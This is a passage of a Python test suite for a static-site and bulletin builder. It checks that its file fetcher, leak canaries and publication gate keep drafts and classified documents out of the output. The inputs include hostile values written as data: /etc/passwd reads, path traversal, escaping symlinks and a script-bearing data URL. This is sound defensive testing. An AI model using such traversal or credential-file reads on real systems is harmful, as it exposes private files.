        assert pdfs
        for path in pdfs:
            assert embedded_files(path) == 0, path
            assert not any(OUTSIDE_CANARY in chunk for chunk in pdf_texts(path)), path
            assert OUTSIDE_CANARY not in path.read_bytes(), path


class _Recorder(http.server.BaseHTTPRequestHandler):
    requests: list[str] = []

    def do_GET(self):  # noqa: N802
        type(self).requests.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()
        self.wfile.write(png("http"))

    def log_message(self, *args):
        pass


@pytest.fixture
def local_server():
    _Recorder.requests = []
    server = http.server.HTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", _Recorder.requests
    server.shutdown()
    server.server_close()


@pytest.fixture
def fetcher(tmp_path):
    from danvan.bulletin.layout import project_fetcher

    root = tmp_path / "goc"
    (root / "anh").mkdir(parents=True)
    (root / "anh" / "ok.txt").write_bytes(b"OK-FETCHED")
    outside = tmp_path / "ngoai.txt"
    outside.write_bytes(OUTSIDE_CANARY)
    (root / "lk.txt").symlink_to(outside)
    return SimpleNamespace(fetch=project_fetcher([root]).fetch, root=root, outside=outside)


def _read(response) -> bytes:
    if isinstance(response, dict):
        return response.get("string") or response["file_obj"].read()
    return response.read()


class TestProjectFetcher:
    def test_a_file_under_an_allowed_root_is_served(self, fetcher):
        assert _read(fetcher.fetch((fetcher.root / "anh" / "ok.txt").as_uri())) == b"OK-FETCHED"

    @pytest.mark.parametrize("url", [
        "file:///etc/passwd",
        "https://example.com/x.png",
        "data:text/html,<script>alert(1)</script>",
        "{outside}",
        "{root}/../ngoai.txt",
        "{root}/%2e%2e/ngoai.txt",
        "{root}/lk.txt",
    ], ids=["etc-passwd", "https", "data-html", "outside-file", "dot-dot",
            "encoded-dot-dot", "symlink-out"])
    def test_anything_else_is_refused(self, fetcher, url):
        url = url.format(outside=fetcher.outside.as_uri(), root=fetcher.root.as_uri())
        with pytest.raises(Exception) as info:
            response = fetcher.fetch(url)
            assert OUTSIDE_CANARY not in _read(response)
        assert not isinstance(info.value, (TypeError, AttributeError, NameError, ImportError,
                                           AssertionError)), info.value

    def test_no_request_reaches_the_network(self, fetcher, local_server):
        base, requests = local_server
        for url in (f"{base}/x.png", base.replace("127.0.0.1", "localhost") + "/y.png"):
            with pytest.raises(Exception) as info:
                fetcher.fetch(url)
            assert not isinstance(info.value, (TypeError, AttributeError, NameError)), info.value
        assert requests == []


# =================================================================================================
# Leaks: canaries in everything unpublished
# =================================================================================================

CANARIES = [
    # draft news
    "CANARYDRAFTFILE", "CANARYDRAFTSLUG", "CANARYDRAFTTITLE", "CANARYDRAFTSUMMARY",
    "CANARYDRAFTTAG", "CANARYDRAFTAUTHOR", "CANARYDRAFTALT", "CANARYDRAFTBODY",
    "CANARYDRAFTPNG", "CANARYDRAFTIMAGEBYTES", "CANARYDRAFTPDFNAME", "CANARYDRAFTPDFBYTES",
    # internal and future news
    "CANARYINTERNALTITLE", "CANARYINTERNALSUMMARY", "CANARYINTERNALTAG", "CANARYINTERNALBODY",
    "CANARYINTERNALPNG", "CANARYINTERNALIMAGEBYTES", "CANARYFUTURETITLE", "CANARYFUTURETAG",
    "CANARYFUTUREBODY",
    # guidance
    "CANARYGUIDEFILE", "CANARYGUIDETITLE", "CANARYGUIDESUMMARY", "CANARYGUIDEBODY",
    # documents: secret (PDF), confidential (.docx), draft, internal
    "CANARYSECRETTITLE", "CANARYSECRETSUMMARY", "CANARYSECRETSIGNER", "CANARYSECRETTAG",
    "CANARYSECRETBODY", "CANARYSECRETPDFNAME", "CANARYSECRETPDFBYTES", "8642-CT/TU",
    "CANARYCLASSIFIEDTITLE", "CANARYCLASSIFIEDDOCNAME", "CANARYCLASSIFIEDDOCBYTES", "8643-CT/TU",
    "CANARYDOCDRAFTTITLE", "8644-CT/TU", "CANARYDOCINTERNALTITLE", "8645-CT/TU",
    # pages
    "CANARYPAGEFILE", "CANARYPAGETITLE", "CANARYPAGEBODY", "CANARYPAGEINTERNALTITLE",
    # a draft model
    "CANARYMODELFOLDER", "CANARYMODELTITLE", "CANARYMODELUNIT", "CANARYMODELGOALS",
    "CANARYMODELALT", "CANARYMODELPHOTO",
    # a draft issue and a future one (with a future article)
    "CANARYISSUEDRAFTTITLE", "CANARYISSUEDRAFTSUMMARY", "CANARYISSUEDRAFTSECTION",
    "CANARYISSUEDRAFTBODY", "CANARYISSUEDRAFTCOVER", "CANARYISSUEFUTURETITLE",
    "CANARYISSUEFUTURESECTION", "CANARYISSUEFUTUREBODY", "CANARYISSUEFUTURECOVER",
    "CANARYFUTUREINISSUETITLE", "CANARYFUTUREINISSUEBODY",
    # files nothing published names
    "CANARYUNREFERENCEDPDF", "CANARYUNREFERENCEDBYTES", "CANARYNHAPDIRTITLE",
    "CANARYNHAPDIRFILE", "CANARYSTRAYPNG", "CANARYSTRAYPHOTO", "CANARYSTRAYCOVER",
    "CANARYHTMLFILE", "CANARYROBOTS", "CANARYJSOVERRIDE",
]


def _leaky_project(project: Project) -> None:
    w = project.write
    low = str.lower
    # Published: a news article, an issue with its article, a model, a document.
    w("content/tin-tuc/cong-khai.md", article("Bài công khai PUBLICMARKERTITLE", tags="[chung]",
                                              localities="[huyện Văn Lâm]")
      + "\nĐoạn PUBLICMARKERBODY.\n")
    w("content/tin-tuc/2026/ban-tin.md", article("Bài bản tin PUBLICMARKERISSUE",
                                                 date="2026-06-01"))
    cover(project)
    w("bulletins/2026/so-01.md", issue(1, [("Hoạt động", ["content/tin-tuc/2026/ban-tin.md"])]))
    add_model(project, "cong-khai", title="Mô hình công khai")
    w("content/van-ban/cong-khai.md", document("05-CT/TU"))
    # Draft news, with an image and a linked PDF of its own.
    w(f"content/tin-tuc/{low('CANARYDRAFTFILE')}.md", article(
        "Nháp CANARYDRAFTTITLE", status="draft", slug=low("CANARYDRAFTSLUG"),
        summary='"CANARYDRAFTSUMMARY"', tags="[CANARYDRAFTTAG, chung]",
        author='"CANARYDRAFTAUTHOR"', image=f"anh/{low('CANARYDRAFTPNG')}.png",
        image_alt='"CANARYDRAFTALT"', localities="[huyện Văn Lâm]")
      + f"\nCANARYDRAFTBODY\n\n[Tệp](tep/{low('CANARYDRAFTPDFNAME')}.pdf)\n")
    w(f"content/tin-tuc/anh/{low('CANARYDRAFTPNG')}.png", png("CANARYDRAFTIMAGEBYTES"))
    w(f"content/tin-tuc/tep/{low('CANARYDRAFTPDFNAME')}.pdf", pdf("CANARYDRAFTPDFBYTES"))
    w("content/tin-tuc/noi-bo.md", article(
        "Nội bộ CANARYINTERNALTITLE", visibility="internal", summary='"CANARYINTERNALSUMMARY"',
        tags="[CANARYINTERNALTAG]", localities="[huyện Văn Lâm]",
        image=f"anh/{low('CANARYINTERNALPNG')}.png", image_alt='"Ảnh nội bộ"')
      + "\nCANARYINTERNALBODY\n")
    w(f"content/tin-tuc/anh/{low('CANARYINTERNALPNG')}.png", png("CANARYINTERNALIMAGEBYTES"))
    w("content/tin-tuc/tuong-lai.md", article("Tương lai CANARYFUTURETITLE", date="2027-03-01",
                                              tags="[CANARYFUTURETAG]") + "\nCANARYFUTUREBODY\n")
    w(f"content/huong-dan/{low('CANARYGUIDEFILE')}.md", guidance(
        "Hướng dẫn CANARYGUIDETITLE", status="draft", summary='"CANARYGUIDESUMMARY"')
      + "\nCANARYGUIDEBODY\n")
    # Documents.
    w("content/van-ban/mat.md", document(
        "8642-CT/TU", title='"Chỉ thị CANARYSECRETTITLE"', classification="secret",
        summary='"CANARYSECRETSUMMARY"', signer='"CANARYSECRETSIGNER"', tags="[CANARYSECRETTAG]",
        attachment=f"tep/{low('CANARYSECRETPDFNAME')}.pdf") + "\nCANARYSECRETBODY\n")
    w(f"content/van-ban/tep/{low('CANARYSECRETPDFNAME')}.pdf", pdf("CANARYSECRETPDFBYTES"))
    w("content/van-ban/toi-mat.md", document(
        "8643-CT/TU", title='"CANARYCLASSIFIEDTITLE"', classification="confidential",
        attachment=f"tep/{low('CANARYCLASSIFIEDDOCNAME')}.docx"))
    w(f"content/van-ban/tep/{low('CANARYCLASSIFIEDDOCNAME')}.docx",
      docx("CANARYCLASSIFIEDDOCBYTES"))
    w("content/van-ban/nhap.md", document("8644-CT/TU", title='"CANARYDOCDRAFTTITLE"',
                                          status="draft"))
    w("content/van-ban/noi-bo.md", document("8645-CT/TU", title='"CANARYDOCINTERNALTITLE"',
                                            visibility="internal"))
    # Pages.
    w(f"content/gioi-thieu/{low('CANARYPAGEFILE')}.md",
      page("CANARYPAGETITLE", status="draft") + "\nCANARYPAGEBODY\n")
    w("content/gioi-thieu/noi-bo.md", page("CANARYPAGEINTERNALTITLE", visibility="internal"))
    # A draft model.
    folder = low("CANARYMODELFOLDER")
    w(f"models_gallery/{folder}/index.md", model(
        "CANARYMODELTITLE", status="draft", unit='"CANARYMODELUNIT"', goals='"CANARYMODELGOALS"',
        photos=f'[{{file: {low("CANARYMODELPHOTO")}.jpg, alt: "CANARYMODELALT"}}]'))
    w(f"models_gallery/{folder}/{low('CANARYMODELPHOTO')}.jpg", jpeg("m", (800, 533)))
    # A draft issue, and a future one carrying a future article.
    cover(project, f"bulletins/2026/anh/{low('CANARYISSUEDRAFTCOVER')}.jpg", size=(400, 260))
    w("bulletins/2026/so-05.md", issue(
        5, [("CANARYISSUEDRAFTSECTION", ["content/tin-tuc/2026/ban-tin.md"])], status="draft",
        cover=f"anh/{low('CANARYISSUEDRAFTCOVER')}.jpg",
        extra='title: "CANARYISSUEDRAFTTITLE"\nsummary: "CANARYISSUEDRAFTSUMMARY"\n',
        body="CANARYISSUEDRAFTBODY\n"))
    w("content/tin-tuc/2026/sap-toi.md", article("CANARYFUTUREINISSUETITLE", date="2026-12-01")
      + "\nCANARYFUTUREINISSUEBODY\n")
    cover(project, f"bulletins/2026/anh/{low('CANARYISSUEFUTURECOVER')}.jpg", size=(400, 260))
    w("bulletins/2026/so-06.md", issue(
        6, [("CANARYISSUEFUTURESECTION", ["content/tin-tuc/2026/sap-toi.md"])],
        date="2026-12-15", cover=f"anh/{low('CANARYISSUEFUTURECOVER')}.jpg",
        extra='title: "CANARYISSUEFUTURETITLE"\n', body="CANARYISSUEFUTUREBODY\n"))
    # Files that nothing published names.
    w(f"content/tin-tuc/{low('CANARYUNREFERENCEDPDF')}.pdf", pdf("CANARYUNREFERENCEDBYTES"))
    w("content/tin-tuc/_nhap/nhap.md", article("CANARYNHAPDIRTITLE"))
    w(f"content/tin-tuc/_nhap/{low('CANARYNHAPDIRFILE')}.pdf", pdf("nhap"))
    w(f"content/tin-tuc/anh/{low('CANARYSTRAYPNG')}.png", png("stray"))
    w(f"models_gallery/cong-khai/{low('CANARYSTRAYPHOTO')}.jpg", jpeg("stray", (800, 533)))
    cover(project, f"bulletins/2026/anh/{low('CANARYSTRAYCOVER')}.jpg", size=(400, 260))
    w("content/tin-tuc/trang.html", b"<script>CANARYHTMLFILE</script>")
    w("content/robots.txt", "User-agent: *\nDisallow: /CANARYROBOTS/\n")
    w("content/assets/javascripts/danvan.js", "console.log('CANARYJSOVERRIDE');\n")


@pytest.fixture(scope="module")
def leaky_site(tmp_path_factory, bulletin_cache):
    project = Project(tmp_path_factory.mktemp("ro-ri") / "project")
    _leaky_project(project)
    use_bulletin_cache(project, bulletin_cache)
    code, err = build(project)
    blob = output_blob(project.root / "site", project.root / "build" / "in-an")
    return SimpleNamespace(code=code, err=err, project=project, blob=blob)


def _forms(canary: str) -> set[bytes]:
    from danvan.text import slugify

    return {canary.encode(), canary.lower().encode(), slugify(canary).encode()}


def _unpublished_set(project: Project) -> None:
    project.write("content/tin-tuc/nhap.md", article("Nháp CANARYLINKTARGET", status="draft")
                  + "\n## Mục\n")
    project.write("content/tin-tuc/noi-bo.md", article("Nội bộ", visibility="internal"))
    project.write("content/tin-tuc/tuong-lai.md", article("Tương lai", date="2027-03-01"))
    project.write("content/gioi-thieu/nhap.md", page("Trang nháp", status="draft"))
    project.write("content/van-ban/mat.md", document("09-CT/TU", classification="secret"))
    project.write("content/van-ban/mat-2.md", document("10-CT/TU", classification="confidential"))


LINKS = [
    # (id, linking source, text)
    ("inline-to-draft", "content/tin-tuc/dan.md", article("Dẫn") + "\n[Xem](nhap.md)\n"),
    ("inline-to-internal", "content/tin-tuc/dan.md", article("Dẫn") + "\n[Xem](noi-bo.md)\n"),
    ("inline-to-future", "content/tin-tuc/dan.md", article("Dẫn") + "\n[Xem](tuong-lai.md)\n"),
    ("inline-with-anchor", "content/tin-tuc/dan.md", article("Dẫn") + "\n[Xem](nhap.md#muc)\n"),
    ("reference-style", "content/tin-tuc/dan.md",
     article("Dẫn") + "\n[Xem][r]\n\n[r]: nhap.md\n"),
    ("inline-to-draft-page", "content/tin-tuc/dan.md",
     article("Dẫn") + "\n[Xem](../gioi-thieu/nhap.md)\n"),
    ("inline-to-secret-document", "content/tin-tuc/dan.md",
     article("Dẫn") + "\n[Xem](../van-ban/mat.md)\n"),
    ("article-documents", "content/tin-tuc/dan.md", article("Dẫn", documents='["09-CT/TU"]')),
    ("guidance-body", "content/huong-dan/dan.md", guidance("Dẫn") + "\n[Xem](../tin-tuc/noi-bo.md)\n"),
    ("page-body", "content/gioi-thieu/dan.md", page("Dẫn") + "\n[Xem](../tin-tuc/nhap.md)\n"),
    ("document-cites", "content/van-ban/dan.md", document("11-CT/TU", cites='["09-CT/TU"]')),
    ("document-replaces", "content/van-ban/dan.md", document("11-CT/TU", replaces='["10-CT/TU"]')),
    ("document-replaced-by", "content/van-ban/dan.md",
     document("11-CT/TU", legal_status="replaced", replaced_by='"09-CT/TU"')),
    ("model-news", "models_gallery/dan/index.md", model(news="[tin-tuc/nhap.md]")),
    ("model-documents", "models_gallery/dan/index.md", model(documents='["09-CT/TU"]')),
]


class TestLeaks:
    def test_leaky_project_builds(self, leaky_site):
        assert leaky_site.code == 0, leaky_site.err

    def test_the_scan_sees_pages_search_and_pdfs(self, leaky_site):
        assert leaky_site.code == 0, leaky_site.err
        for marker in ("PUBLICMARKERTITLE", "PUBLICMARKERBODY", "publicmarkertitle"):
            assert marker.encode() in leaky_site.blob, marker
        pdfs = list((leaky_site.project.root / "build" / "in-an").rglob("*.pdf"))
        assert pdfs and any(b"PUBLICMARKERISSUE" in b"".join(pdf_texts(p)) for p in pdfs)

    def test_canaries_are_distinct(self):
        assert len(set(CANARIES)) == len(CANARIES)
        assert [c for c in CANARIES if any(c != o and c in o for o in CANARIES)] == []

    @pytest.mark.parametrize("canary", CANARIES)
    def test_canary_is_in_no_output_byte(self, leaky_site, canary):
        assert leaky_site.code == 0, leaky_site.err
        leaked = [form for form in _forms(canary) if form in leaky_site.blob]
        assert leaked == [], f"{canary} is in the output"

    @pytest.mark.parametrize("source, text", [link[1:] for link in LINKS],
                             ids=[link[0] for link in LINKS])
    def test_link_from_published_to_unpublished_is_an_error(self, project, source, text):
        _unpublished_set(project)
        project.write(source, text)
        if source.startswith("models_gallery/"):
            project.write("models_gallery/dan/anh-1.jpg", jpeg("dan", (800, 533)))
        find(errors(project), exact_path=source)

    def test_unpublished_items_may_link_to_anything(self, project):
        _unpublished_set(project)
        project.write("content/tin-tuc/nhap-2.md", article(
            "Nháp 2", status="draft", documents='["09-CT/TU"]') + "\n[Xem](noi-bo.md)\n")
        project.write("content/tin-tuc/noi-bo-2.md", article(
            "Nội bộ 2", visibility="internal") + "\n[Xem](../van-ban/mat.md)\n")
        project.write("content/van-ban/mat-3.md", document(
            "12-CT/TU", classification="secret", cites='["09-CT/TU"]'))
        assert errors(project) == []

    def test_link_to_a_draft_fails_the_build_and_keeps_the_site(self, project):
        _unpublished_set(project)
        project.write("content/tin-tuc/dan.md", article("Bài dẫn"))
        code, err = build(project)
        assert code == 0, err
        before = tree(project.root / "site")
        project.write("content/tin-tuc/dan.md", article("Bài dẫn") + "\n[Xem](nhap.md)\n")
        code, err = build(project)
        assert code == 1
        assert "content/tin-tuc/dan.md" in err and "Traceback" not in err, err
        assert tree(project.root / "site") == before
        project.write("content/tin-tuc/dan.md", article("Bài dẫn") + "\nKhông còn liên kết.\n")
        code, err = build(project)
        assert code == 0, err
        blob = output_blob(project.root / "site")
        assert b"CANARYLINKTARGET" not in blob and b"canarylinktarget" not in blob

    @pytest.mark.parametrize("case", ["image-with-internal", "attachment-with-secret",
                                      "body-link-to-secret-attachment"])
    def test_file_shared_with_internal_or_classified_content(self, project, case):
        project.write("content/tin-tuc/anh/chung.png", png("chung"))
        project.write("content/van-ban/tep/chung.pdf", pdf("chung"))
        if case == "image-with-internal":
            project.write("content/tin-tuc/a.md", article("A", image="anh/chung.png",
                                                          image_alt='"Ảnh"'))
            project.write("content/tin-tuc/b.md", article("B", visibility="internal",
                                                          image="anh/chung.png",
                                                          image_alt='"Ảnh"'))
            name = "chung.png"
        elif case == "attachment-with-secret":
            project.write("content/van-ban/a.md", document("02-ĐA/TU", attachment="tep/chung.pdf"))
            project.write("content/van-ban/b.md", document("09-CT/TU", classification="secret",
                                                           attachment="tep/chung.pdf"))
            name = "chung.pdf"
        else:
            project.write("content/van-ban/b.md", document("09-CT/TU", classification="secret",
                                                           attachment="tep/chung.pdf"))
            project.write("content/tin-tuc/a.md",
                          article("A") + "\n[Tải](../van-ban/tep/chung.pdf)\n")
            name = "chung.pdf"
        find(errors(project), words=(name,))

    def test_file_shared_with_a_draft_is_fine(self, project):
        project.write("content/tin-tuc/anh/chung.png", png("chung"))
        project.write("content/tin-tuc/a.md", article("A", image="anh/chung.png",
                                                      image_alt='"Ảnh"'))
        project.write("content/tin-tuc/b.md", article("B", status="draft", image="anh/chung.png",
                                                      image_alt='"Ảnh"'))
        assert errors(project) == []


# =================================================================================================
# The publication gate: exactly the referenced files leave content/
# =================================================================================================

REFERENCED = {
    # site path: how the published article names it
    "tin-tuc/anh/cong-khai.png": "front matter image",
    "tin-tuc/tep/inline.pdf": "Markdown inline link",
    "tin-tuc/tep/refstyle.pdf": "reference-style link",
    "tin-tuc/anh/raw.png": "raw <img src>",
    "tin-tuc/tep/single.pdf": "raw <a href='…'>",
    "tin-tuc/tep/unquoted.pdf": "raw <a href=…>",
    "tin-tuc/2024/anh/og.jpg": "front matter image (article in a year folder)",
    "van-ban/tep/vb.pdf": "document attachment",
    "van-ban/tep/vb.xlsx": "Markdown link from a document",
}
GATE_BODY = """\
Nội dung công khai.

[Tải tệp](tep/inline.pdf)

[Tệp tham chiếu][r]

[r]: tep/refstyle.pdf

<img src="anh/raw.png" alt="Ảnh HTML">

<a href='tep/single.pdf'>Tệp nháy đơn</a>

<a href=tep/unquoted.pdf>Tệp không nháy</a>
"""
UNREFERENCED = [
    "content/tin-tuc/bi-mat.pdf", "content/tin-tuc/_nhap/tep.pdf", "content/tin-tuc/anh/thua.png",
    "content/tin-tuc/anh/nhap.png", "content/van-ban/tep/mat.docx", "content/tin-tuc/trang.html",
    "content/robots.txt", "content/sitemap.xml", "content/assets/javascripts/danvan.js",
    "content/assets/stylesheets/danvan.css", "content/tin-tuc/.an.png",
    "models_gallery/mh/thua.jpg", "bulletins/2026/anh/thua.jpg",
]


def _xlsx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://'
                         'schemas.openxmlformats.org/package/2006/content-types"/>')
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return buffer.getvalue()


@pytest.fixture(scope="module")
def gate_site(tmp_path_factory):
    project = Project(tmp_path_factory.mktemp("cong") / "project")
    w = project.write
    w("content/tin-tuc/cong-khai.md", article("Bài công khai", image="anh/cong-khai.png",
                                              image_alt='"Ảnh"') + "\n" + GATE_BODY)
    for name in ("anh/cong-khai.png", "anh/raw.png"):
        w(f"content/tin-tuc/{name}", png(name))
    for name in ("inline", "refstyle", "single", "unquoted"):
        w(f"content/tin-tuc/tep/{name}.pdf", pdf(name))
    w("content/tin-tuc/2024/bai.md", article("Bài có ảnh", image="anh/og.jpg", image_alt='"Ảnh"'))
    w("content/tin-tuc/2024/anh/og.jpg", jpeg("og", (1200, 630)))
    w("content/van-ban/cong-khai.md", document("05-CT/TU", attachment="tep/vb.pdf")
      + "\n[Bảng số liệu](tep/vb.xlsx)\n")
    w("content/van-ban/tep/vb.pdf", pdf("vb"))
    w("content/van-ban/tep/vb.xlsx", _xlsx())
    add_model(project, "mh")
    # Unpublished items and the files only they use.
    w("content/tin-tuc/nhap.md", article("Nháp", status="draft", image="anh/nhap.png",
                                         image_alt='"Ảnh"'))
    w("content/van-ban/mat.md", document("09-CT/TU", classification="secret",
                                         attachment="tep/mat.docx"))
    w("content/van-ban/tep/mat.docx", docx("mat"))
    # Files nobody names (some where the site has a file of its own).
    for rel in UNREFERENCED:
        if rel.endswith(".png"):
            data = png(rel)
        elif rel.endswith(".jpg"):
            data = jpeg(rel, (400, 260))
        elif rel.endswith(".pdf"):
            data = pdf(rel)
        elif rel.endswith(".docx"):
            continue  # written above
        else:
            data = f"<!-- {rel} --><script>alert(1)</script>\n".encode()
        w(rel, data)
    code, err = build(project)
    return SimpleNamespace(code=code, err=err, project=project, site=project.root / "site")


class TestPublicationGate:
    def test_gate_project_builds(self, gate_site):
        assert gate_site.code == 0, gate_site.err

    @pytest.mark.parametrize("rel", list(REFERENCED), ids=list(REFERENCED))
    def test_referenced_file_is_published_as_is(self, gate_site, rel):
        assert gate_site.code == 0, gate_site.err
        source = gate_site.project.root / "content" / rel
        published = gate_site.site / rel
        assert published.is_file(), f"{REFERENCED[rel]}: {rel} not published"
        assert published.read_bytes() == source.read_bytes()

    @pytest.mark.parametrize("rel", UNREFERENCED)
    def test_unreferenced_file_is_never_copied(self, gate_site, rel):
        assert gate_site.code == 0, gate_site.err
        digest = hashlib.sha256((gate_site.project.root / rel).read_bytes()).hexdigest()
        copies = [p.relative_to(gate_site.site).as_posix() for p in gate_site.site.rglob("*")
                  if p.is_file() and hashlib.sha256(p.read_bytes()).hexdigest() == digest]
        assert copies == []

    def test_nothing_else_leaves_the_source_folders(self, gate_site):
        """Every byte-for-byte copy of a source file in site/ is a referenced file."""
        assert gate_site.code == 0, gate_site.err
        root = gate_site.project.root
        sources = {}
        for base in ("content", "models_gallery", "bulletins"):
            for path in (root / base).rglob("*"):
                if path.is_file() and not path.is_symlink():
                    sources.setdefault(hashlib.sha256(path.read_bytes()).hexdigest(),
                                       path.relative_to(root).as_posix())
        copied = {p.relative_to(gate_site.site).as_posix(): sources[d]
                  for p in gate_site.site.rglob("*") if p.is_file()
                  and (d := hashlib.sha256(p.read_bytes()).hexdigest()) in sources}
        # ... and the committee's emblem, named in co-quan.yml (published as the banner's).
        allowed = {f"content/{rel}" for rel in REFERENCED} | {
            "models_gallery/mh/anh-1.jpg", "content/_du-lieu/bieu-trung-mau.png"}
        assert {k: v for k, v in copied.items() if v not in allowed} == {}

    def test_srcset_is_refused_and_its_files_never_copied(self, project):
        """srcset names files the sanitizer cannot check one by one: it is not on the
        allow-list, the checker says so at its line, and none of its files is published."""
        project.write("content/tin-tuc/anh/s1.png", png("s1"))
        project.write("content/tin-tuc/anh/s2.png", png("s2"))
        project.write("content/tin-tuc/a.md", article("Bài") + '\n<img src="anh/s1.png" '
                      'srcset="anh/s2.png 2x" alt="Ảnh">\n')
        code, err = build(project)
        assert code == 1
        assert "content/tin-tuc/a.md:11" in err and "“srcset” không được phép" in err
        assert not (project.root / "site").exists()

    def test_og_image_is_the_absolute_url_of_a_published_file(self, gate_site):
        assert gate_site.code == 0, gate_site.err
        html = (gate_site.site / "tin-tuc/bai/index.html").read_bytes()
        urls = lxml.html.document_fromstring(html).xpath("//meta[@property='og:image']/@content")
        assert len(urls) == 1, urls
        (url,) = urls
        assert url.startswith(SITE_URL), url
        path = gate_site.site / posixpath.normpath(url[len(SITE_URL):])
        assert path.is_file(), url
        with Image.open(path) as image:
            assert image.format in ("JPEG", "PNG", "WEBP")
        # The largest JPEG rendition of the article's photo, published beside its page.
        assert re.fullmatch(re.escape(SITE_URL) + r"tin-tuc/bai/og-trang-\d+\.[0-9a-f]{10}\.jpg",
                            url), url


# =================================================================================================
# URL collisions
# =================================================================================================

GENERATED = ["the/index.md", "the.md", "tim-kiem.md", "tim-kiem/index.md", "luu-tru/index.md",
             "dia-ban.md", "ban-tin/index.md", "mo-hinh/index.md", "tin-tuc.md", "index.md"]


def check(project: Project, monkeypatch) -> tuple[int, list[str]]:
    """`danvan check`, in this process: its exit code and its error lines. URL collisions
    with generated pages need the views, which `check` and the build add to the model."""
    from click.testing import CliRunner

    from danvan.cli import main

    monkeypatch.chdir(project.root)
    result = CliRunner().invoke(main, ["check", "--today", TODAY.isoformat()])
    assert result.exception is None or isinstance(result.exception, SystemExit), \
        f"danvan check raised {result.exception!r}"
    assert "Traceback" not in result.output, result.output
    return result.exit_code, [line for line in result.stderr.splitlines()
                              if line.startswith("Lỗi – ")]


class TestCollisions:
    def test_the_page_itself_is_valid_elsewhere(self, project, monkeypatch):
        project.write("content/gioi-thieu/trang-thu.md", page("Trang thử"))
        assert check(project, monkeypatch) == (0, [])

    @pytest.mark.parametrize("rel", GENERATED)
    def test_page_on_a_generated_url_is_an_error(self, project, monkeypatch, rel):
        project.write(f"content/{rel}", page("Trang thử"))
        code, lines = check(project, monkeypatch)
        assert code == 1 and any(f"content/{rel}" in line for line in lines), lines

    def test_page_slug_on_a_generated_url_is_an_error(self, project, monkeypatch):
        project.write("content/trang-thu.md", page("Trang thử", slug="the"))
        code, lines = check(project, monkeypatch)
        assert code == 1 and any("content/trang-thu.md" in line for line in lines), lines

    @pytest.mark.parametrize("first, second, text", [
        ("content/tin-tuc/a.md", "content/tin-tuc/2024/b.md",
         lambda n: article(f"Bài {n}", slug="chung")),
        ("content/huong-dan/a.md", "content/huong-dan/2024/b.md",
         lambda n: guidance(f"Hướng dẫn {n}", slug="chung")),
        ("content/gioi-thieu.md", "content/gioi-thieu/index.md", lambda n: page(f"Trang {n}")),
    ], ids=["articles", "guidance", "pages"])
    def test_same_url_twice_names_both_sources(self, project, monkeypatch, first, second, text):
        project.write(first, text(1))
        project.write(second, text(2))
        code, lines = check(project, monkeypatch)
        assert code == 1 and any(first in line and second in line for line in lines), lines

    def test_model_slug_taking_another_models_folder_names_both(self, project, monkeypatch):
        add_model(project, "mot", title="Một", slug="hai")
        add_model(project, "hai", title="Hai")
        code, lines = check(project, monkeypatch)
        assert code == 1 and any("models_gallery/mot/index.md" in line
                                 and "models_gallery/hai/index.md" in line for line in lines), lines


# =================================================================================================
# `danvan check` reports what the build reports; a failed build keeps the old site
# =================================================================================================


def _bad(case: str, project: Project) -> str:
    """Make ``project`` bad in one way; returns the path its errors must name."""
    project.write("content/tin-tuc/tot.md", article("Bài tốt"))
    if case == "bad-date":
        project.write("content/tin-tuc/x.md", article("X", date="2016-13-45"))
        return "content/tin-tuc/x.md"
    if case == "symlink":
        (project.root / "content/tin-tuc/anh").mkdir()
        (project.root / "content/tin-tuc/anh/lk.png").symlink_to("/etc/passwd")
        project.write("content/tin-tuc/x.md", article("X", image="anh/lk.png", image_alt='"Ả"'))
        return "lk.png"
    if case == "fake-image":
        project.write("content/tin-tuc/anh/gia.jpg", b"khong phai anh")
        project.write("content/tin-tuc/x.md", article("X", image="anh/gia.jpg", image_alt='"Ả"'))
        return "content/tin-tuc/x.md"
    if case == "iframe":
        project.write("content/tin-tuc/x.md", article("X") + '\n<iframe src="https://e.x/">\n')
        return "content/tin-tuc/x.md"
    if case == "link-to-draft":
        project.write("content/tin-tuc/nhap.md", article("Nháp", status="draft"))
        project.write("content/tin-tuc/x.md", article("X") + "\n[Xem](nhap.md)\n")
        return "content/tin-tuc/x.md"
    if case == "collision":
        project.write("content/the/index.md", page("Trang từ khóa"))
        return "content/the/index.md"
    if case == "unclosed":
        project.write("content/tin-tuc/x.md", '---\ntitle: "X"\ndate: 2024-05-01\n\nNội dung.\n')
        return "content/tin-tuc/x.md"
    if case == "escape":
        project.write("content/van-ban/x.md", document("02-ĐA/TU", attachment="/etc/passwd"))
        return "content/van-ban/x.md"
    if case == "anchors":
        project.write("content/tin-tuc/x.md", article("X", tags="&t [a]", localities="*t"))
        return "content/tin-tuc/x.md"
    raise AssertionError(case)


class TestCheckAgreesWithBuild:
    @pytest.mark.parametrize("case", ["bad-date", "symlink", "fake-image", "iframe",
                                      "link-to-draft", "collision", "unclosed", "escape",
                                      "anchors"])
    def test_check_and_build_report_the_same_errors(self, project, case):
        named = _bad(case, project)
        site = project.root / "site"
        (site / "tin-tuc/cu").mkdir(parents=True)
        (site / "index.html").write_bytes(b"<p>Trang cu</p>")
        (site / "tin-tuc/cu/index.html").write_bytes(b"<p>Bai cu</p>")
        before = tree(site)
        check = subprocess.run([str(DANVAN), "check", "--today", TODAY.isoformat()],
                               cwd=project.root, capture_output=True, text=True, timeout=120)
        assert check.returncode == 1, check.stdout + check.stderr
        assert "Traceback" not in check.stderr, check.stderr
        reported = [line for line in check.stderr.splitlines()
                    if line.startswith("Lỗi – ") or line.startswith("    Cách sửa: ")]
        assert any(line.startswith("Lỗi – ") and named in line for line in reported), \
            check.stderr
        code, err = build(project)
        assert code == 1
        assert "Traceback" not in err, err
        lines = set(err.splitlines())
        assert [line for line in reported if line not in lines] == [], err
        assert tree(site) == before
        assert not list(project.root.glob(".site*"))


# --- What a second, hostile review found ------------------------------------------------------
# Forms the first pass let through. The PDFs now read only the files their issue prints (the
# gate's allow-list, one by one), so a path the checks do not see fails the issue instead of
# printing a file nobody published.


class TestSecondReview:
    def test_pdf_reads_only_the_files_its_issue_prints(self, project):
        from danvan.bulletin import render
        from danvan.bulletin.fonts import Face

        cover(project)
